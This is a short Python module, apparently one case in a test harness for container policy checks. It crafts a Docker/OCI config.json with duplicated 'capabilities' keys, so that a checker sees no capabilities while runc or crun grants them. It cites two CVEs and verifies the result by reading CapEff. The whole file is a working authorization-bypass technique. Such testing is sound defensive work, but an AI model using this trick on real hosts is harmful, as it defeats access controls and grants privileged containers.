"""config.json has the capabilities twice: a checker reads one list, the runtime another."""

import json

from bypass import refused

SOURCE = "idea; CVE-2026-34040 and CVE-2024-41110: a body that a checker and Docker read differently"
WAY = "create"
STOPPED = refused("json")


def attack(t):
    t.spec["process"]["args"] = t.argv("grep CapEff /proc/self/status")
    held = json.dumps(t.spec["process"]["capabilities"])
    t.spec["process"]["capabilities"] = {"bounding": []}
    # runc takes the last, crun the first
    t.text = json.dumps(t.spec).replace('"capabilities": {"bounding": []}', '"capabilities": %s, "capabilities": {"bounding": []}, "capabilities": %s'
                                        % (held, held))
    return "0000000000000000" not in t.run(t.spec["process"]["args"]) and "capabilities"
